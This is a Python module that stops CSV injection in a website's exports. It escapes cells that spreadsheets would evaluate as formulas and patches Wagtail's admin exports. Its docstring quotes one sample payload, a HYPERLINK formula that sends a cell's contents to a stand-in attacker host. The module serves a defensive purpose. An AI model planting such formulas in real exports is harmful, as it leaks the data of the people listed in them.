"""CSV that spreadsheet programs open as data: no cell is read as a formula.

Names, titles and tags come from visitors and members; a guest registered as
``=HYPERLINK("https://evil.example/?x="&A2,"Click")`` must not become a live link (or a
formula reading other cells) in the participants list an organiser opens in Excel. Every CSV
the site writes goes through ``writer`` or ``DictWriter`` here; Wagtail's admin exports go
through ``neutralise`` too (``guard_wagtail_exports``, called from kb_site's AppConfig).
"""

import csv
import re

# What makes Excel, LibreOffice or Google Sheets evaluate a cell (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# A string that is just a number ("-3.5", "+2", "1e-3") evaluates to itself: no formula.
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value):
    """The value for a CSV cell: a string a spreadsheet would evaluate gets a leading quote
    (which makes it text); numbers and plain strings are left as they are."""
    if not isinstance(value, str):
        return value  # numbers, None, booleans: written as they are
    # Leading spaces do not stop a spreadsheet from reading " =1+1" as a formula.
    if value.lstrip(" ").startswith(FORMULA_STARTS) or value.lstrip().startswith(FORMULA_STARTS):
        if _NUMBER.fullmatch(value.strip()):
            return value
        return "'" + value
    return value


class Writer:
    """csv.writer whose rows are neutralised."""

    def __init__(self, csvfile, *args, **kwargs):
        self._writer = csv.writer(csvfile, *args, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(csvfile, *args, **kwargs) -> Writer:
    """A drop-in for csv.writer."""
    return Writer(csvfile, *args, **kwargs)


class DictWriter(csv.DictWriter):
    """csv.DictWriter whose rows are neutralised (the header row too)."""

    def writerow(self, rowdict):
        return super().writerow({key: neutralise(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts):
        for rowdict in rowdicts:
            self.writerow(rowdict)


def guard_wagtail_exports() -> None:
    """Wagtail's admin CSV exports (site history, page reports, workflows, redirects, form
    submissions) write cells as they are: run them through neutralise. Its XLSX cells need
    nothing: openpyxl types them, and Wagtail turns a would-be formula back into a string."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralises", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        value = original(self, field, value, export_format)
        return neutralise(value) if export_format == self.FORMAT_CSV else value

    preprocess_field_value.neutralises = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
